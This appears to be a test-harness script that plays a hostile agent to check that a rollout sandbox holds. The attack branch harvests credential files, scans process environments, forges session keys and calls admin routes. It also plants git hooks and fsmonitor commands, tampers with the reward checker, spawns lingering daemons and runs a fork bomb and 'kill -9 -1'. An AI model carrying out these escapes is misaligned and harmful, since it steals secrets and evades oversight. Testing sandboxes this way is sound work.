#!/usr/bin/env node
/**
 * A custom-harness agent for test/integration/attack.test.ts: honest on ordinary tasks, an attacker
 * on tasks whose prompt starts with `ATTACK <kind> <json>`.
 *
 * Honest: a minimal OpenAI Chat tool loop. It offers one `bash` tool, runs each command the model
 * asks for in the workspace, and sends the output back until the model answers in text. Nothing in
 * its requests depends on the run (paths, times, pids), so two rollouts of the same task send the
 * same bytes, and the test can compare their traces.
 *
 * Attacker: calls the model once (as any agent would), then tries every escape it knows and prints
 * one line `ATTACK-REPORT <json>` to stdout (the harness log polar keeps). Each attempt records
 * whether it got through (`escaped`) and what it saw, never the content of a real file: the test
 * asserts on the facts, and a report that quoted a host's real secrets would leak them into CI logs.
 * The test also checks the host after the run (files written, processes left), since an attempt the
 * attacker thinks failed may still have done harm.
 *
 * Plain JavaScript on purpose: it runs inside the sandbox with nothing but node, no tsx, no checkout.
 */
import { spawnSync } from 'node:child_process';
import { createHmac } from 'node:crypto';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';

const prompt = process.argv[2] ?? '';
const BASE = process.env.OPENAI_BASE_URL;
const KEY = process.env.OPENAI_API_KEY;
const TOOLS = [
  {
    type: 'function',
    function: {
      name: 'bash',
      description: 'Run a shell command in the workspace',
      parameters: { type: 'object', properties: { command: { type: 'string' } }, required: ['command'] },
    },
  },
];

async function chat(messages, { base = BASE, key = KEY, headers = {} } = {}) {
  const res = await fetch(`${base}/chat/completions`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(key !== null ? { authorization: `Bearer ${key}` } : {}), ...headers },
    body: JSON.stringify({ model: process.env.POLAR_MODEL ?? 'any', messages, tools: TOOLS }),
  });
  const text = await res.text();
  let body = null;
  try {
    body = JSON.parse(text);
  } catch {
    // not JSON: kept as text below
  }
  return { status: res.status, body, text };
}

function sh(command, timeout = 60_000) {
  const r = spawnSync('/bin/bash', ['-c', command], { encoding: 'utf8', timeout, maxBuffer: 16 * 1024 * 1024 });
  return { code: r.status, signal: r.signal, out: `${r.stdout ?? ''}${r.stderr ?? ''}` };
}

/** The honest loop: the model's bash calls run here until it answers without one. */
async function honest(first) {
  const messages = [{ role: 'user', content: first }];
  for (let turn = 0; turn < 12; turn++) {
    const { status, body, text } = await chat(messages);
    if (status !== 200) {
      console.error(`model call failed: ${status} ${text.slice(0, 300)}`);
      process.exit(3);
    }
    const message = body.choices[0].message;
    const calls = message.tool_calls ?? [];
    messages.push({ role: 'assistant', content: message.content ?? '', ...(calls.length ? { tool_calls: calls } : {}) });
    if (calls.length === 0) return;
    for (const call of calls) {
      const { command } = JSON.parse(call.function.arguments);
      const r = sh(command);
      messages.push({ role: 'tool', tool_call_id: call.id, content: r.out || `(exit ${r.code})` });
    }
  }
}

// ---------------------------------------------------------------------------------------------
// Attacks. Each returns { escaped, ...facts }.

function tryRead(file) {
  try {
    const data = fs.readFileSync(file);
    return { path: file, readable: true, bytes: data.length, head: data.subarray(0, 16).toString('latin1') };
  } catch (err) {
    return { path: file, readable: false, error: err.code ?? String(err) };
  }
}

function tryList(dir) {
  try {
    return { path: dir, listable: true, entries: fs.readdirSync(dir).sort() };
  } catch (err) {
    return { path: dir, listable: false, error: err.code ?? String(err) };
  }
}

function tryWrite(file, text) {
  try {
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, text);
    return { path: file, written: true };
  } catch (err) {
    return { path: file, written: false, error: err.code ?? String(err) };
  }
}

function connect(host, port, ms = 3000) {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port });
    const done = (result) => {
      clearTimeout(timer);
      socket.destroy();
      resolve({ host, port, ...result });
    };
    const timer = setTimeout(() => done({ connected: false, error: 'timeout' }), ms);
    socket.once('connect', () => {
      // Say who we are, so the listener can tell our connection from anything else.
      socket.write('attacker-hello\n');
      setTimeout(() => done({ connected: true }), 200);
    });
    socket.once('error', (err) => done({ connected: false, error: err.code ?? String(err) }));
  });
}

function containsCanary(file, canary) {
  const r = tryRead(file);
  if (!r.readable) return { ...r, canary: false };
  return { path: file, readable: true, canary: fs.readFileSync(file, 'utf8').includes(canary) };
}

/** The hidden checker: by $POLAR_TASKS_DIR and by the absolute paths an attacker could guess. */
function hiddenChecker(p) {
  const candidates = [process.env.POLAR_TASKS_DIR && path.join(process.env.POLAR_TASKS_DIR, 'checks/slugify-check.cjs'), ...p.checkerPaths].filter(Boolean);
  const reads = candidates.map(tryRead);
  const canaries = p.canaryFiles.map((f) => containsCanary(f, p.canary));
  return { escaped: reads.some((r) => r.readable) || canaries.some((c) => c.canary), envTasksDir: process.env.POLAR_TASKS_DIR ?? null, reads, canaries };
}

/** Any SQLite file: found by search from / and by walking up from where polar put us. */
function databases(p) {
  const found = new Set();
  const search = sh(
    `timeout 20 find / \\( -path /proc -o -path /sys -o -path /dev \\) -prune -o \\( -name '*.db' -o -name '*.db-wal' -o -name '*.sqlite' \\) -print 2>/dev/null`,
    30_000,
  );
  for (const line of search.out.split('\n')) if (line.trim()) found.add(line.trim());
  // $HOME is <db dir>/.polar/runs/<session>/home under polar today: its ancestors hold the database.
  for (const start of [process.env.HOME, process.cwd()]) {
    let dir = start;
    for (let i = 0; dir && i < 8; i++, dir = path.dirname(dir)) {
      const listed = tryList(dir);
      if (listed.listable) for (const e of listed.entries) if (/\.(db|sqlite)$/.test(e)) found.add(path.join(dir, e));
    }
  }
  found.add(p.dbPath);
  const reads = [...found].map((f) => ({ ...tryRead(f), polar: f === p.dbPath ? tryRead(f).readable : isPolarStore(f) }));
  // Only polar's stores count, told by content: the system has other SQLite files (a Debian
  // package's /usr/share/proj/proj.db, avahi's, documentation indexes), which are no secret.
  return { escaped: reads.some((r) => r.polar), found: reads.filter((r) => r.polar).map((r) => r.path) };
}

/** Tables only polar's schema has (src/store/migrations.ts): their CREATE TABLE text is in the file. */
const POLAR_TABLES = ['CREATE TABLE request_bodies', 'CREATE TABLE rollout_tasks'];

/**
 * A polar database, or its write-ahead log, by content: SQLite's header (or a WAL's magic number)
 * and polar's own tables in the schema. A WAL whose database is polar's counts as well: the schema
 * may have been checkpointed out of it.
 */
function isPolarStore(file) {
  let data;
  try {
    data = fs.readFileSync(file);
  } catch {
    return false;
  }
  const sqlite = data.subarray(0, 16).toString('latin1').startsWith('SQLite format 3');
  const wal = data.length >= 4 && [0x377f0682, 0x377f0683].includes(data.readUInt32BE(0));
  if (!sqlite && !wal) return false;
  const text = data.toString('latin1');
  if (POLAR_TABLES.some((t) => text.includes(t))) return true;
  return wal && file.endsWith('-wal') && isPolarStore(file.slice(0, -'-wal'.length));
}

const CREDENTIAL_FILES = [
  '.ssh/id_rsa',
  '.ssh/id_ed25519',
  '.ssh/id_ecdsa',
  '.ssh/authorized_keys',
  '.ssh/known_hosts',
  '.bash_history',
  '.zsh_history',
  '.python_history',
  '.netrc',
  '.git-credentials',
  '.gitconfig',
  '.npmrc',
  '.pypirc',
  '.aws/credentials',
  '.aws/config',
  '.docker/config.json',
  '.kube/config',
  '.config/gh/hosts.yml',
  '.config/gcloud/credentials.db',
  '.cargo/credentials',
  '.cargo/credentials.toml',
  '.cargo/config',
  '.cargo/config.toml',
  '.claude.json',
  '.claude/.credentials.json',
  '.codex/auth.json',
  '.gemini/oauth_creds.json',
  '.huggingface/token',
  '.cache/huggingface/token',
  '.wandb/settings',
  '.netrc',
];

/** The invoking user's ~/.ssh: the planted fake key, and the real home's entries (names only). */
function sshKeys(p) {
  const planted = containsCanary(path.join(p.userHome, '.ssh/id_test'), p.canary);
  const realHome = tryList(p.realHome);
  const realSsh = tryList(path.join(p.realHome, '.ssh'));
  const etcShadow = tryRead('/etc/shadow');
  // System-wide registry settings in the view (a toolchain reads them) that carry a login here.
  const etcLogins = ['/etc/npmrc', '/etc/pip.conf', '/etc/gitconfig'].filter((f) => {
    try {
      return /_authToken|_auth\s*=|password|:\/\/[^/\s:@]+:[^@\s]+@/i.test(fs.readFileSync(f, 'utf8'));
    } catch {
      return false;
    }
  });
  // Where credentials live in a home: whether each can be read, and its size, never its content.
  const credentials = CREDENTIAL_FILES.map((f) => path.join(p.realHome, f))
    .map(tryRead)
    .map((r) => ({ path: r.path, readable: r.readable && r.bytes > 0 }));
  return {
    escaped: planted.canary || etcShadow.readable || credentials.some((c) => c.readable) || etcLogins.length > 0,
    etcLogins,
    planted,
    realHome: { listable: realHome.listable, entries: realHome.entries ?? [] },
    realSsh: { listable: realSsh.listable, entries: realSsh.entries ?? [] },
    etcShadow: { readable: etcShadow.readable },
    credentials: credentials.filter((c) => c.readable).map((c) => c.path),
  };
}

/** `/`, and the polar checkout the rollout runs from (only its node_modules, the harnesses' install, may show). */
function listRoot(p) {
  const root = tryList('/');
  const repo = tryList(p.repoRoot);
  return { entries: root.entries ?? [], error: root.error ?? null, repo: repo.entries ?? [] };
}

/** Other samples' workspaces: next to ours, and under the rollout's --out folder. */
function otherWorkspaces(p) {
  const here = path.basename(process.cwd());
  // At a fixed in-sandbox path (/workspace: one first prompt per task) the folder above is the
  // sandbox's root, the minimal view listRoot checks; at its host path, the folder its siblings share.
  const near = path.dirname(process.cwd()) === '/' ? { entries: [] } : tryList(path.dirname(process.cwd()));
  const out = tryList(path.join(p.outDir, 'workspaces'));
  const seen = new Set([...(near.entries ?? []), ...(out.entries ?? [])].filter((e) => e !== here));
  const reads = p.siblingFiles.map(tryRead);
  return { escaped: seen.size > 0 || reads.some((r) => r.readable), others: [...seen], reads };
}

function writeOutside(p) {
  const attempts = p.writeTargets.map((f) => tryWrite(f, `${p.canary}\n`));
  // A write that "succeeded" into a private view is not an escape; the test checks the host.
  return { attempts };
}

async function loopback(p) {
  const other = await connect('127.0.0.1', p.loopbackPort);
  const upstream = await connect('127.0.0.1', p.upstreamPort);
  const v6 = await connect('::1', p.loopbackPort);
  return { escaped: other.connected || upstream.connected || v6.connected, other, upstream, v6 };
}

async function network(p) {
  const hostAddress = p.hostAddress ? await connect(p.hostAddress, p.loopbackPort) : { connected: false, error: 'no address given' };
  const outside = await connect('1.1.1.1', 53, 2000);
  const dns = sh('getent hosts deb.debian.org', 5000);
  const ifaces = Object.keys(os.networkInterfaces());
  return { escaped: hostAddress.connected || outside.connected, hostAddress, outside, dns: dns.code === 0, interfaces: ifaces };
}

/**
 * polar's secrets beside the database: the session-key master (whoever reads it can mint every
 * session's key) and the admin token (pause the rollout, relabel the policy version).
 */
function masterKeys(p) {
  const files = new Set([path.join(path.dirname(p.dbPath), '.polar/session-keys.master'), path.join(path.dirname(p.dbPath), '.polar/admin-token')]);
  let dir = process.env.HOME;
  for (let i = 0; dir && i < 4; i++, dir = path.dirname(dir)) for (const f of ['session-keys.master', 'admin-token']) files.add(path.join(dir, f));
  const reads = [...files].map(tryRead).map(({ head, ...r }) => r);
  return { escaped: reads.some((r) => r.readable), reads };
}

/**
 * The proxy's admin routes, reached the way the agent reaches the proxy: pause every session of the
 * rollout (then resume, so a hole does not hang the test), and label what follows with a policy
 * version of the attacker's choosing. With our own key, with none, and with any admin token read.
 */
async function adminCalls(p, tokens) {
  const root = BASE.replace(/\/s\/[^/]+\/v1$/, '');
  const call = async (method, route, key, body) => {
    const res = await fetch(`${root}${route}`, {
      method,
      headers: { 'content-type': 'application/json', ...(key ? { authorization: `Bearer ${key}` } : {}) },
      ...(body ? { body: JSON.stringify(body) } : {}),
    });
    await res.text();
    return res.status;
  };
  const statuses = {};
  for (const [who, key] of [['none', null], ['own', KEY], ...tokens.map((t, i) => [`token${i}`, t])]) {
    statuses[`${who} pause`] = await call('POST', '/admin/pause', key);
    statuses[`${who} resume`] = await call('POST', '/admin/resume', key);
    statuses[`${who} policy-version`] = await call('POST', '/admin/policy-version', key, { version: p.evilVersion });
    statuses[`${who} status`] = await call('GET', '/admin/status', key);
  }
  return { escaped: Object.values(statuses).some((s) => s >= 200 && s < 300), statuses };
}

/**
 * The operator's secrets in environments: polar's own (the upstream API key) and the shell's (cloud,
 * GitHub, Hugging Face tokens). The test puts the canary in all of them; a harness inherits an
 * allow-list, so none may show here or in any process this agent can see.
 */
function envLeak(p) {
  const hits = Object.entries(process.env)
    .filter(([, v]) => String(v).includes(p.canary))
    .map(([k]) => k);
  for (const pid of tryList('/proc').entries ?? []) {
    if (!/^\d+$/.test(pid)) continue;
    try {
      if (fs.readFileSync(`/proc/${pid}/environ`, 'latin1').includes(p.canary)) hits.push(`/proc/${pid}/environ`);
    } catch {
      // gone or not ours
    }
  }
  return { escaped: hits.length > 0, hits };
}

/** Session ids an attacker can find without being told: processes' environments, polar's run folders. */
function discoverSessions(mine) {
  const ids = new Set();
  const keys = new Set();
  for (const pid of tryList('/proc').entries ?? []) {
    if (!/^\d+$/.test(pid)) continue;
    for (const f of ['environ', 'cmdline']) {
      try {
        const text = fs.readFileSync(`/proc/${pid}/${f}`, 'latin1');
        for (const m of text.matchAll(/ses_[A-Za-z0-9]+/g)) ids.add(m[0]);
        for (const m of text.matchAll(/polar-ses_[A-Za-z0-9~_-]+/g)) keys.add(m[0]);
      } catch {
        // gone or not ours
      }
    }
  }
  let dir = process.env.HOME;
  // $HOME is <state>/.polar/runs/<session>/home: two levels up, every session has a folder.
  for (let i = 0; dir && i < 2; i++) dir = path.dirname(dir);
  for (const e of tryList(dir ?? '/').entries ?? []) if (/^ses_/.test(e)) ids.add(e);
  ids.delete(mine);
  for (const k of [...keys]) if (k.includes(mine)) keys.delete(k);
  return { escaped: ids.size > 0 || keys.size > 0, ids: [...ids], keys: keys.size };
}

/**
 * Calls into a sibling's session: through its path, its header, its key, a guessed secret, and our
 * own secret under its name. Any 2xx is a call recorded in someone else's session.
 */
async function siblingCalls(sibling, mine, masters) {
  const root = BASE.replace(/\/s\/[^/]+\/v1$/, '');
  const mySecret = KEY.includes('~') ? KEY.slice(KEY.indexOf('~') + 1) : '';
  const messages = [{ role: 'user', content: 'injected by the attacker' }];
  const tries = {
    pathNoKey: await chat(messages, { base: `${root}/s/${sibling}/v1`, key: null }),
    pathBareKey: await chat(messages, { base: `${root}/s/${sibling}/v1`, key: `polar-${sibling}` }),
    pathGuessedSecret: await chat(messages, { base: `${root}/s/${sibling}/v1`, key: `polar-${sibling}~${'0'.repeat(32)}` }),
    pathMySecret: await chat(messages, { base: `${root}/s/${sibling}/v1`, key: `polar-${sibling}~${mySecret}` }),
    pathMyKey: await chat(messages, { base: `${root}/s/${sibling}/v1`, key: KEY }),
    headerMyKey: await chat(messages, { base: `${root}/v1`, key: KEY, headers: { 'x-polar-session': sibling } }),
    keyOnly: await chat(messages, { base: `${root}/v1`, key: `polar-${sibling}` }),
    noSession: await chat(messages, { base: `${root}/v1`, key: null }),
  };
  // In another API's shape: the refusal must come in that API's shape too.
  const anthropic = await fetch(`${root}/s/${sibling}/v1/messages`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-api-key': KEY, 'anthropic-version': '2023-06-01' },
    body: JSON.stringify({ model: 'any', max_tokens: 16, messages }),
  });
  const anthropicText = await anthropic.text();
  tries.anthropicMyKey = {
    status: anthropic.status,
    body: (() => {
      try {
        return JSON.parse(anthropicText);
      } catch {
        return null;
      }
    })(),
  };
  // A session-key master the attacker could read mints any session's key (proxy/session-keys.ts).
  for (const [i, master] of masters.entries()) {
    const secret = createHmac('sha256', Buffer.from(master, 'base64url')).update(`polar session key\0${sibling}`).digest('base64url');
    tries[`minted${i}`] = await chat(messages, { base: `${root}/s/${sibling}/v1`, key: `polar-${sibling}~${secret}` });
  }
  const statuses = Object.fromEntries(Object.entries(tries).map(([k, v]) => [k, v.status]));
  const shapes = Object.fromEntries(
    Object.entries(tries).map(([k, v]) => [k, v.body && typeof v.body === 'object' ? Object.keys(v.body).sort().join(',') : 'text']),
  );
  return { escaped: Object.values(tries).some((t) => t.status >= 200 && t.status < 300), sibling, mine, statuses, shapes };
}

/** A process meant to outlive the sample, named by a marker the test looks for in the host's /proc. */
function leaveDaemon(marker) {
  spawnSync(
    '/bin/bash',
    ['-c', `setsid nohup bash -c 'exec -a ${marker} sleep 1000' >/dev/null 2>&1 < /dev/null & disown; (exec -a ${marker}-2 sleep 1000 &) ; true`],
    { timeout: 5000 },
  );
  const seen = sh(`grep -l ${marker} /proc/[0-9]*/cmdline 2>/dev/null | wc -l`).out.trim();
  return { started: Number(seen) > 0 };
}

function waitFor(file, ms) {
  const until = Date.now() + ms;
  while (Date.now() < until) {
    if (fs.existsSync(file)) return fs.readFileSync(file, 'utf8').trim();
    spawnSync('sleep', ['0.2']);
  }
  return null;
}

async function escapeAll(p) {
  const report = { kind: 'escape', session: process.env.POLAR_SESSION ?? null, uid: process.getuid(), cwd: process.cwd(), home: process.env.HOME };
  // An ordinary call first: the attacker is a session like any other, and its own key works.
  report.ownCall = { status: (await chat([{ role: 'user', content: prompt }])).status };
  report.hiddenChecker = hiddenChecker(p);
  report.databases = databases(p);
  report.ssh = sshKeys(p);
  report.root = listRoot(p);
  report.workspaces = otherWorkspaces(p);
  report.writeOutside = writeOutside(p);
  report.loopback = await loopback(p);
  report.network = await network(p);
  report.discovered = discoverSessions(process.env.POLAR_SESSION);
  report.envLeak = envLeak(p);
  // A new user namespace inside would hand the agent every capability in it: kernel attack surface.
  const userns = sh('unshare -Ur id -u 2>&1; echo "exit=$?"', 5000).out.trim();
  report.nestedUserns = { escaped: /^0\s+exit=0$/m.test(userns) || /exit=0$/.test(userns), output: userns.slice(-200) };
  // The test drops a sibling's session id here once one exists: the worst case, an id the attacker
  // learned somehow. Session ids are not secrets; only the per-session key may open a session.
  const sibling = waitFor(path.join(process.cwd(), p.siblingDrop), p.siblingWaitMs ?? 60_000);
  report.masterKeys = masterKeys(p);
  const masters = report.masterKeys.reads.filter((r) => r.readable && r.path.endsWith('.master')).map((r) => fs.readFileSync(r.path, 'utf8').trim());
  const tokens = report.masterKeys.reads.filter((r) => r.readable && r.path.endsWith('admin-token')).map((r) => fs.readFileSync(r.path, 'utf8').trim());
  report.admin = await adminCalls(p, tokens);
  report.siblingCalls = sibling ? await siblingCalls(sibling, process.env.POLAR_SESSION, masters) : { escaped: false, error: 'no sibling id was dropped' };
  report.daemon = leaveDaemon(p.daemonMarker);
  report.git = plantGitCommands(p);
  // The payload the evaluator runs (the task's evaluator command is `node payload.cjs`).
  fs.writeFileSync('payload.cjs', evaluatorPayload(p));
  console.log(`ATTACK-REPORT ${JSON.stringify(report)}`);
  // Kills last, after the report: `pkill -f polar` may match this agent's own command line (its
  // paths), and `kill -9 -1` ends every process this one may signal, which may be this one. The
  // test judges them by what survives on the host: the rollout, the proxy, the other samples.
  console.log(`ATTACK-PKILL ${sh('pkill -9 -f polar; echo $?', 10_000).out.trim()}`);
  console.log(`ATTACK-KILL-ALL ${sh('kill -9 -1; echo $?', 10_000).out.trim()}`);
}

/**
 * Commands in the workspace's own git config and hooks, for polar's git to run when it diffs the
 * workspace after the agent ends: a clean filter and an fsmonitor (run by `git add`), hooks. Each
 * writes beside the rollout's --out folder and calls the loopback listener; the filter still passes
 * the content through (`cat`), so the diff and the evaluator go on.
 */
function plantGitCommands(p) {
  if (!fs.existsSync('.git/config')) return { planted: false };
  const evil = `touch ${process.cwd()}/.git/atk-ran; echo pwned > ${p.writeTargets[0]}.git 2>/dev/null; (exec 3<>/dev/tcp/127.0.0.1/${p.loopbackPort} && echo git-hello >&3) 2>/dev/null; true`;
  fs.appendFileSync('.git/config', `\n[core]\n\tfsmonitor = "sh -c '${evil}' #"\n[filter "atk"]\n\tclean = "sh -c '${evil}; cat'"\n\tsmudge = cat\n`);
  fs.writeFileSync('.gitattributes', '* filter=atk\n');
  fs.mkdirSync('.git/hooks', { recursive: true });
  for (const hook of ['pre-commit', 'post-commit', 'post-checkout', 'pre-auto-gc', 'post-index-change']) {
    fs.writeFileSync(`.git/hooks/${hook}`, `#!/bin/sh\n${evil}\n`, { mode: 0o755 });
  }
  return { planted: true };
}

/**
 * Code the evaluator runs: it reads the hidden checker (allowed: the evaluator needs the task's
 * files) and tries to change it for every later sample, write outside, and call out. It prints
 * reward 0 last, so the evaluator itself succeeds.
 */
function evaluatorPayload(p) {
  return `
const fs = require('node:fs');
const net = require('node:net');
const out = {};
// First, before its own writes below land beside the workspace: the evaluator sees the task's
// folder (it needs the checker) and nothing else of the rollout.
const path = require('node:path');
// At the fixed in-sandbox workspace path the folder above is the root: look where the siblings are on the host.
const near = path.dirname(process.cwd()) === '/' ? ${JSON.stringify(path.join(p.outDir, 'workspaces'))} : path.dirname(process.cwd());
try { out.siblings = fs.readdirSync(near).filter((e) => e !== path.basename(process.cwd())); } catch (e) { out.siblings = e.code; }
out.reads = {};
for (const f of ${JSON.stringify([p.dbPath, ...p.siblingFiles, ...p.canaryFiles.slice(1)])}) { try { fs.readFileSync(f); out.reads[f] = true; } catch (e) { out.reads[f] = e.code; } }
const checker = process.env.POLAR_TASKS_DIR ? process.env.POLAR_TASKS_DIR + '/checks/slugify-check.cjs' : ${JSON.stringify(p.checkerPaths[0])};
try { fs.appendFileSync(checker, '\\n// tampered by the evaluator payload\\n'); out.tamperChecker = true; } catch (e) { out.tamperChecker = e.code; }
for (const f of ${JSON.stringify(p.writeTargets.map((t) => `${t}.eval`))}) { try { fs.writeFileSync(f, ${JSON.stringify(p.canary)}); out[f] = true; } catch (e) { out[f] = e.code; } }
const s = net.connect({ host: '127.0.0.1', port: ${p.loopbackPort} });
s.on('connect', () => { s.write('evaluator-hello\\n'); out.loopback = true; finish(); });
s.on('error', (e) => { out.loopback = e.code; finish(); });
function finish() { s.destroy(); console.log('PAYLOAD ' + JSON.stringify(out)); console.log('0'); }
`;
}

/** Resource attacks: each should end this sample as `error` naming the limit, and nothing else. */
function resource(kind, p) {
  console.log(`ATTACK-START ${kind}`);
  if (kind === 'fork-bomb') sh('bomb() { bomb | bomb & }; bomb; sleep 30', 60_000);
  if (kind === 'big-file') sh('head -c 10G /dev/zero > big.bin; ls -l big.bin; head -c 10G /dev/zero > /tmp/big.bin', 120_000);
  // Straight to this agent's stdout, which polar reads and writes to the harness log on the host,
  // outside the sandbox's file-size cap.
  if (kind === 'stdout-flood') spawnSync('/bin/sh', ['-c', 'head -c 200M /dev/zero'], { stdio: ['ignore', 'inherit', 'inherit'], timeout: 120_000 });
  if (kind === 'cpu-spin') sh(`${process.execPath} -e 'for (;;) {}'`, 120_000);
  if (kind === 'memory-hog') sh(`${process.execPath} -e 'const a = []; for (;;) a.push(Buffer.alloc(64 * 1024 * 1024, 1));'`, 120_000);
  console.log(`ATTACK-SURVIVED ${kind} ${JSON.stringify(p.kind ?? null)}`);
}

const m = /^ATTACK (\S+) (\{.*\})\s*$/s.exec(prompt);
if (!m) {
  await honest(prompt);
} else {
  const [, kind, json] = m;
  const p = JSON.parse(json);
  // Every sample calls the model at least once, attacker or not.
  await chat([{ role: 'user', content: prompt }]);
  if (kind === 'escape') await escapeAll(p);
  else resource(kind, p);
}
